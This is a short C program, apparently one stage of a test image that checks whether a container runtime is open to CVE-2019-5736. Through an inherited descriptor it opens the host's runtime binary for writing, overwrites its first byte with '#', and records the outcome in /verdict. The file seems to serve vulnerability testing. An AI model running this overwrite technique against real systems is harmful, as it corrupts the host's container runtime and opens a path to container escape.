/* The hostile image of CVE-2019-5736, second part. As ELF interpreter of the image, hijacker.c has
 * opened the runtime's binary as descriptor 100 and become this program, so that the binary is no
 * longer busy. This one tries for two seconds to open it for writing through the descriptor, and
 * leaves in /verdict what became of it. */
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

static int say(const char* verdict) {
  const int fd = open("/verdict.new", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  return fd < 0 || write(fd, verdict, strlen(verdict)) < 0 || close(fd) != 0 ||
         link("/verdict.new", "/verdict") != 0 || unlink("/verdict.new") != 0;
}

int main(void) {
  int err = 0;
  for (int i = 0; i < 200; ++i) {
    const int fd = open("/proc/self/fd/100", O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
      return say(write(fd, "#", 1) == 1 ? "overwritten" : strerror(errno));
    }
    err = errno;
    usleep(10000);
  }
  return say(strerror(err));
}
